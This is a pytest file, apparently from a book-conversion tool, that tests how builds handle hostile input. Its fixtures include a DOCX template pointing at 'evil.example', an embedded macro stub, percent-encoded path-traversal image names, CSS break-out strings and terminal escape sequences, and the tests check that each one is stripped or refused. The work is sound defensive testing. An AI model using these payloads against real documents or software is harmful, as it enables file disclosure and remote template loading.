"""Issue 11's classes of hostile input, each fixed as a class: no crash, no leak, no hang.

The single-file cases with an exact message live in tests/bad/; these need a build's output,
a process, a FIFO or a file too large to keep in git.
"""

from __future__ import annotations

import io
import os
import re
import signal
import stat
import subprocess
import sys
import time
import tracemalloc
import zipfile
from pathlib import Path

import pytest
from lxml import etree
from PIL import Image

from converters.build.guard import out_lock
from converters.build.orchestrate import build
from converters.cli.main import main
from converters.core import limits
from converters.core.errors import BuildError, SourceError
from converters.core.escape import css_string, terminal
from tests.conftest import MINIMAL_YAML, ROOT

ENV = {**os.environ, "PYTHONPATH": str(ROOT)}


def png(color: tuple[int, int, int], size: tuple[int, int] = (8, 8)) -> bytes:
    buf = io.BytesIO()
    Image.new("RGB", size, color).save(buf, "PNG")
    return buf.getvalue()


def yaml_with(extra: str = "", **replace: str) -> str:
    text = MINIMAL_YAML.lstrip("\n") + extra
    for old, new in replace.items():
        text = text.replace(old, new)
    return text


def refused(src: Path, out: Path) -> list:
    with pytest.raises(SourceError) as info:
        build(src, out, ["epub"])
    return info.value.problems


# -- pandoc hardened -----------------------------------------------------------------------


def test_pandoc_on_path_is_never_run(minimal_source, tmp_path, monkeypatch):
    # pypandoc prefers PATH's pandoc; ours must be the bundled one, for every edition.
    fake = tmp_path / "bin"
    fake.mkdir()
    marker = tmp_path / "fake-pandoc-ran"
    (fake / "pandoc").write_text(f"#!/bin/sh\ntouch {marker}\nexit 1\n")
    (fake / "pandoc").chmod(0o755)
    monkeypatch.setenv("PATH", f"{fake}{os.pathsep}{os.environ['PATH']}")
    src = minimal_source({"one.md": "Text with a note.[^1]\n\n[^1]: The note.\n"})
    results = build(src, tmp_path / "out", ["epub", "docx"], jobs=1)
    assert all(r.ok for r in results) and not marker.exists()


def test_percent_encoded_image_names_never_reach_outside(write_source, tmp_path):
    # pandoc percent-decodes image paths: '..%2Fsecret.png' once put the file outside the
    # source folder into the DOCX.  A file really named so inside the source is what is shown.
    (tmp_path / "secret.png").write_bytes(png((255, 0, 0)))
    (tmp_path / "other.png").write_bytes(png((0, 255, 0)))
    inside = png((0, 0, 255))
    src = write_source({"book.yaml": MINIMAL_YAML, "..%2Fsecret.png": inside,
                        "one.md": "![a](..%2Fsecret.png)\n\n![b](..%2Fother.png)\n\n"
                                  "![c](%2E%2E%2Fother.png)\n"})
    problems = refused(src, tmp_path / "out")
    assert [(p.code, p.location.line) for p in problems] == [("image-path", 3),
                                                             ("image-path", 5)]
    (src / "one.md").write_text("![a](..%2Fsecret.png)\n\n![b](<..%2Fsecret.png>)\n",
                                encoding="utf-8")
    [docx] = build(src, tmp_path / "out", ["docx"])
    with zipfile.ZipFile(docx.path) as z:
        media = [z.read(n) for n in z.namelist() if n.startswith("word/media/")]
    assert media == [inside]


def test_every_pandoc_run_is_sandboxed_without_resource_path():
    # The runner is the only place pandoc is started; the source says so.
    runner = (ROOT / "converters" / "render" / "pandoc.py").read_text(encoding="utf-8")
    assert '"--sandbox"' in runner
    for path in (ROOT / "converters").rglob("*.py"):
        text = path.read_text(encoding="utf-8")
        assert "resource-path=" not in text and "convert_text" not in text, path
        if path.name != "pandoc.py":
            assert "get_pandoc_path" not in text, path


def test_pandoc_timeout_is_a_located_error(minimal_source, tmp_path, monkeypatch):
    # Past the bracket limit pandoc's time doubles per '['; with the limit lifted, the time
    # ceiling must catch it and name the file.
    monkeypatch.setattr(limits, "MAX_BRACKET_DEPTH", 1000)
    monkeypatch.setattr(limits, "PANDOC_TIMEOUT_S", 1.0)
    src = minimal_source({"one.md": "[" * 40 + "\n"})
    started = time.perf_counter()
    [problem] = refused(src, tmp_path / "out")
    assert time.perf_counter() - started < 15
    assert problem.code == "pandoc-limit" and problem.location.path.name == "one.md"
    assert "too hard to parse (pandoc took longer than 1 s)" in problem.message


def test_pandoc_memory_ceiling_is_a_located_error(minimal_source, tmp_path, monkeypatch):
    monkeypatch.setattr(limits, "PANDOC_MAX_MEMORY", 150 << 20)
    src = minimal_source({"one.md": "Some *text* with [a link](https://example.org).\n\n"
                          * 19000})
    [problem] = refused(src, tmp_path / "out")
    assert problem.code == "pandoc-limit" and problem.location.path.name == "one.md"
    assert "memory" in problem.message


# -- DOCX reference documents --------------------------------------------------------------


def hostile_reference() -> bytes:
    from converters.render.pandoc import pandoc_binary

    base = subprocess.run([pandoc_binary(), "--print-default-data-file", "reference.docx"],
                          capture_output=True, check=True).stdout
    out = io.BytesIO()
    rel = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    with zipfile.ZipFile(io.BytesIO(base)) as src, zipfile.ZipFile(out, "w") as dst:
        for info in src.infolist():
            data = src.read(info)
            if info.filename == "word/settings.xml":
                data = data.replace(b"<w:zoom", b'<w:attachedTemplate r:id="rIdT"/><w:zoom', 1)
                if b"xmlns:r=" not in data[:2000]:
                    data = data.replace(b"<w:settings ",
                                        f'<w:settings xmlns:r="{rel}" '.encode(), 1)
            if info.filename == "_rels/.rels":
                data = data.replace(b"</Relationships>", (
                    b'<Relationship Id="rIdUI" Type="http://schemas.microsoft.com/office/2006/'
                    b'relationships/ui/extensibility" Target="customUI/customUI.xml"/>'
                    b"</Relationships>"))
            dst.writestr(info, data)
        dst.writestr("word/_rels/settings.xml.rels", (
            '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.'
            'openxmlformats.org/package/2006/relationships"><Relationship Id="rIdT" Type="'
            f'{rel}/attachedTemplate" Target="https://evil.example/t.dotm" '
            'TargetMode="External"/></Relationships>'))
        dst.writestr("word/vbaProject.bin", b"macro")
        dst.writestr("customUI/customUI.xml", "<customUI/>")
    return out.getvalue()


def test_reference_document_is_stripped_of_remote_and_active_parts(write_source, tmp_path):
    src = write_source({"book.yaml": yaml_with(extra="docx:\n  reference: style.docx\n"),
                        "one.md": "Text and [a site](https://example.org).\n",
                        "style.docx": hostile_reference()})
    [docx] = build(src, tmp_path / "out", ["docx"])
    with zipfile.ZipFile(docx.path) as z:
        names = z.namelist()
        blobs = {n: z.read(n) for n in names}
    assert not [n for n in names if re.search(r"(?i)vba|customui", n)]
    assert all(b"attachedTemplate" not in blob for blob in blobs.values())
    for name, blob in blobs.items():
        if name.endswith(".rels"):
            for rel in etree.fromstring(blob):
                if rel.get("TargetMode") == "External":
                    # Only the book's own hyperlinks may point outside.
                    assert rel.get("Type").endswith("/hyperlink"), (name, rel.attrib)
                    assert rel.get("Target") == "https://example.org"


# -- media and names -----------------------------------------------------------------------


@pytest.fixture(scope="module")
def odd_names_dist(tmp_path_factory) -> dict[str, Path]:
    """A book whose images have every kind of awkward name, built in all three editions."""
    src = tmp_path_factory.mktemp("odd") / "src"
    src.mkdir()
    names = {"a b.png": (1, 0, 0), "a#b.png": (2, 0, 0), "q?x.png": (3, 0, 0),
             "Map.png": (4, 0, 0), "map.png": (5, 0, 0), "map-1.png": (6, 0, 0),
             "map_1.png": (7, 0, 0), "clip.mp4": (8, 0, 0), "song.mp3": (9, 0, 0),
             "page.html": (10, 0, 0)}
    for name, color in names.items():
        (src / name).write_bytes(png(color))
    refs = ["<a b.png>", "a%20b.png", "a#b.png", "q?x.png", "Map.png", "map.png",
            "map-1.png", "map_1.png", "clip.mp4", "song.mp3", "page.html"]
    (src / "book.yaml").write_text(MINIMAL_YAML.lstrip("\n"), encoding="utf-8")
    (src / "one.md").write_text("".join(f"![image {i}]({r})\n\n" for i, r in enumerate(refs)),
                                encoding="utf-8")
    out = tmp_path_factory.mktemp("odd-out")
    return {r.format: r.path for r in build(src, out)}


@pytest.mark.slow
def test_awkward_image_names_give_a_valid_epub(odd_names_dist, epubcheck_once):
    epub = odd_names_dist["epub"]
    with zipfile.ZipFile(epub) as z:
        text = z.read("EPUB/text/chapter-1.xhtml").decode("utf-8")
        images = sorted(n for n in z.namelist() if n.startswith("EPUB/images/"))
        opf = etree.fromstring(z.read("EPUB/content.opf"))
    assert not re.search(r"<(video|audio|embed|object|iframe)\b", text)
    assert text.count("<img ") == 11
    # Ten distinct files (two references to 'a b.png'), no two names equal ignoring case.
    lower = [n.lower() for n in images if "cover" not in n]
    assert len(lower) == 10 == len(set(lower))
    assert all(re.fullmatch(r"epub/images/[a-z0-9-]+\.png", n) for n in lower), lower
    ids = opf.xpath("//*[local-name()='item']/@id")
    assert len(ids) == len({i.lower() for i in ids})
    _, messages = epubcheck_once(epub)
    problems = [str(m) for m in messages if m.severity in ("FATAL", "ERROR", "WARNING")]
    assert not problems, problems


@pytest.mark.slow
def test_awkward_image_names_reach_the_pdf_and_docx(odd_names_dist):
    import pikepdf

    with pikepdf.open(odd_names_dist["pdf"]) as pdf:
        images = [o for o in pdf.objects if isinstance(o, pikepdf.Stream)
                  and o.get("/Subtype") == "/Image"]
    assert len(images) >= 10
    with zipfile.ZipFile(odd_names_dist["docx"]) as z:
        media = [n for n in z.namelist() if n.startswith("word/media/")]
    assert len(media) == 10


# -- escaping ------------------------------------------------------------------------------


def test_carriage_return_cannot_break_out_of_a_css_string():
    import tinycss2

    hostile = 'Evil\r} body { display: none } @page { x: "\n\\'
    value = css_string(hostile)
    tokens = [t for t in tinycss2.parse_component_value_list(value)
              if t.type != "whitespace"]
    assert len(tokens) == 1 and tokens[0].type == "string" and tokens[0].value == hostile


def test_page_rules_hold_the_title_as_one_string(write_source, tmp_path):
    import tinycss2

    from converters.pdf.writer import page_css
    from converters.source.loader import load_book

    src = write_source({"book.yaml": yaml_with(**{
        "title: A Small Book": 'title: "Evil\\r} body { display: none } @page { size: 1mm"'}),
        "one.md": "Body text that must be shown.\n"})
    rules = tinycss2.parse_stylesheet(page_css(load_book(src)), skip_comments=True,
                                      skip_whitespace=True)
    # Nothing escaped the string: the only selectors are the house's own.
    selectors = {tinycss2.serialize(r.prelude).strip() for r in rules
                 if r.type == "qualified-rule"}
    assert selectors == {".imprint", ".halftitle, .titlepage-block"}
    [pdf] = build(src, tmp_path / "out", ["pdf"])
    text = subprocess.run(["pdftotext", str(pdf.path), "-"], capture_output=True,
                          text=True, check=True).stdout
    assert "Body text that must be shown." in text


def test_terminal_escaping_of_file_names_and_keys(write_source, tmp_path, monkeypatch, capsys):
    assert terminal("a\x1b[31mred\nline\u202e") == "a\\x1b[31mred\\nline\\u202e"
    # A key holding an escape sequence (keys are names, not text an edition carries) and a
    # file name holding a newline: each problem stays one line, and nothing reaches the
    # terminal raw.
    src = write_source({"book.yaml": yaml_with(
        extra='"\\e]0;owned\\a": 1\n', **{"file: one.md": 'file: "evil\\nname.md"'}),
        "one.md": "Text.\n"})
    monkeypatch.chdir(src)
    assert main(["build", ".", "--out", str(tmp_path / "out")]) == 1
    err = capsys.readouterr().err
    assert "\x1b" not in err and "\x07" not in err
    lines = [line for line in err.splitlines() if ": error: " in line]
    assert len(lines) == 2, err
    assert "unknown key '\\x1b]0;owned\\x07'" in lines[1]
    assert "file 'evil\\nname.md' does not exist" in lines[0]


# -- located errors instead of tracebacks ---------------------------------------------------


def test_long_title_gives_a_file_name_that_fits(write_source, tmp_path):
    title = "A Very Long Title " * 20  # 360 characters, like a real book's
    src = write_source({"book.yaml": yaml_with(**{"title: A Small Book": f"title: {title}"}),
                        "one.md": "Text.\n"})
    [epub] = build(src, tmp_path / "out", ["epub"])
    assert len(epub.path.name) <= limits.MAX_NAME_CHARS + len(".epub")
    assert re.fullmatch(r"a-very-long-title-[a-z-]+-[0-9a-f]{8}\.epub", epub.path.name)


def test_out_or_report_below_a_regular_file(minimal_source, tmp_path, capsys):
    src = minimal_source()
    blocker = tmp_path / "file"
    blocker.write_text("x")
    assert main(["build", str(src), "--out", str(blocker / "dist")]) == 1
    err = capsys.readouterr().err
    assert "is inside" in err and "which is a file, not a folder" in err
    assert "Traceback" not in err
    assert main(["build", str(src), "--out", str(blocker)]) == 1
    assert "is a file; name a folder" in capsys.readouterr().err
    assert main(["build", str(src), "--out", str(tmp_path / "d"),
                 "--report", str(blocker / "r.json")]) == 2
    assert "--report" in capsys.readouterr().err and not (tmp_path / "d").exists()


@pytest.mark.parametrize("what", ["book.yaml", "folder"])
def test_unreadable_source_is_a_located_error(what):
    import shutil
    import tempfile

    if os.geteuid() == 0 and not shutil.which("setpriv"):
        pytest.skip("root reads every file, and setpriv (to drop root) is missing")
    base = Path(tempfile.mkdtemp(prefix="editions-unreadable-"))  # not 0700, unlike tmp_path
    try:
        src = base / "src"
        src.mkdir()
        (src / "book.yaml").write_text(MINIMAL_YAML, encoding="utf-8")
        (src / "one.md").write_text("Text.\n", encoding="utf-8")
        os.chmod(base, 0o755)
        (src / "book.yaml" if what == "book.yaml" else src).chmod(0)
        prefix = (["setpriv", "--reuid=65534", "--regid=65534", "--clear-groups"]
                  if os.geteuid() == 0 else [])
        proc = subprocess.run([*prefix, sys.executable, "-m", "converters", "build", str(src),
                               "--out", str(base / "out")], capture_output=True, text=True,
                              env=ENV, cwd=base)
    finally:
        src.chmod(0o755)
        shutil.rmtree(base)
    assert proc.returncode == 1 and "Traceback" not in proc.stderr, proc.stderr
    expected = ("src/book.yaml:1:1: error: cannot read book.yaml: permission denied"
                if what == "book.yaml" else
                "src:1:1: error: cannot read the source folder: permission denied")
    assert expected in proc.stderr, proc.stderr


def test_symlink_loop_on_the_source_folder(tmp_path):
    loop = tmp_path / "loop"
    loop.symlink_to(tmp_path / "loop")
    [problem] = refused(loop, tmp_path / "out")
    assert problem.code == "path" and "loops" in problem.message


# -- hangs and memory ----------------------------------------------------------------------


def test_huge_sparse_book_yaml_is_refused_unread(minimal_source, tmp_path):
    src = minimal_source()
    with (src / "book.yaml").open("r+b") as f:
        f.truncate(2 << 30)  # 2 GiB, sparse: costs no disk
    tracemalloc.start()
    [problem] = refused(src, tmp_path / "out")
    peak = tracemalloc.get_traced_memory()[1]
    tracemalloc.stop()
    assert problem.code == "too-large" and peak < 20 << 20


@pytest.mark.parametrize("which", ["book.yaml", "one.md"])
def test_fifo_in_the_source_never_blocks(minimal_source, tmp_path, which):
    src = minimal_source()
    out = tmp_path / "out"
    build(src, out, ["epub"])  # the incremental path then hashes the recorded inputs
    (src / which).unlink()
    os.mkfifo(src / which)
    signal.signal(signal.SIGALRM, lambda *a: pytest.fail("the build blocked on a FIFO"))
    signal.alarm(20)
    try:
        [problem] = refused(src, out)
    finally:
        signal.alarm(0)
    assert problem.code == ("not-a-file" if which == "book.yaml" else "missing-file")
    assert stat.S_ISFIFO(os.stat(src / which).st_mode)


@pytest.mark.slow
def test_three_thousand_footnotes_in_bounded_time(minimal_source, tmp_path):
    body = "".join(f"Sentence {i}.[^n{i}]\n\n" for i in range(3000))
    body += "".join(f"[^n{i}]: Note {i}.\n" for i in range(3000))
    src = minimal_source({"one.md": body})
    started = time.perf_counter()
    results = build(src, tmp_path / "out", ["epub", "docx"])
    assert all(r.ok for r in results)
    # About 15 s alone on two cores; the bound leaves room for a busy CI machine.
    assert time.perf_counter() - started < 90


# -- valid books ---------------------------------------------------------------------------


def test_long_description_and_authors_contents_list_in_the_docx(write_source, tmp_path):
    import docx

    description = "A description longer than python-docx allows. " * 30  # 1,410 characters
    src = write_source({"book.yaml": yaml_with(extra=f"description: {description}\n"),
                        "one.md": "::: {.contents-list}\nThe authors own list.\n:::\n"})
    [result] = build(src, tmp_path / "out", ["docx"])
    document = docx.Document(result.path)
    assert document.core_properties.comments == description.strip()
    assert "The authors own list." in [p.text for p in document.paragraphs]


# -- processes and concurrency ---------------------------------------------------------------


def test_second_build_into_the_same_folder_is_refused(minimal_source, tmp_path):
    src = minimal_source()
    out = tmp_path / "out"
    out.mkdir()
    with out_lock(out), pytest.raises(BuildError, match="another build is writing into"):
        build(src, out, ["epub"])
    assert [r.status for r in build(src, out, ["epub"])] == ["built"]  # released


def children_of(pid: int) -> set[int]:
    found = set()
    for entry in Path("/proc").iterdir():
        if entry.name.isdigit():
            try:
                fields = (entry / "stat").read_text().rsplit(")", 1)[1].split()
            except OSError:
                continue
            if int(fields[1]) == pid:
                found.add(int(entry.name))
    return found


@pytest.mark.slow
def test_workers_die_with_their_parent(tmp_path):
    from tests.books.long import write_long_book

    src = write_long_book(tmp_path / "src")
    proc = subprocess.Popen([sys.executable, "-m", "converters", "build", str(src), "--out",
                             str(tmp_path / "out"), "--jobs", "3"], env=ENV,
                            stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    deadline = time.monotonic() + 60
    workers: set[int] = set()
    while time.monotonic() < deadline and len(workers) < 2:
        time.sleep(0.2)
        workers = children_of(proc.pid)
    assert len(workers) >= 2, "the build never started its workers"
    proc.kill()  # the main process only
    proc.wait()
    deadline = time.monotonic() + 10
    while time.monotonic() < deadline and any(Path(f"/proc/{w}").exists() for w in workers):
        time.sleep(0.1)
    alive = [w for w in workers if Path(f"/proc/{w}/stat").exists()
             and (Path(f"/proc/{w}/stat").read_text().rsplit(")", 1)[1].split()[0] != "Z")]
    assert not alive


def test_one_enormous_word_on_the_typographic_cover(minimal_source):
    # Found by the depth fuzzer: Pillow rasterised a 62,828-character title as one word, past
    # its decompression-bomb limit.  The cover clips and breaks it, and stays the cover size.
    import dataclasses

    from converters.epub.cover import HEIGHT, WIDTH, typographic_cover
    from converters.source.loader import load_book

    book = load_book(minimal_source())
    for title in ("'" * 62828, "x" * 400, "A Very Long Title " * 20):
        started = time.perf_counter()
        cover = Image.open(io.BytesIO(typographic_cover(dataclasses.replace(book, title=title))))
        assert cover.size == (WIDTH, HEIGHT) and time.perf_counter() - started < 10
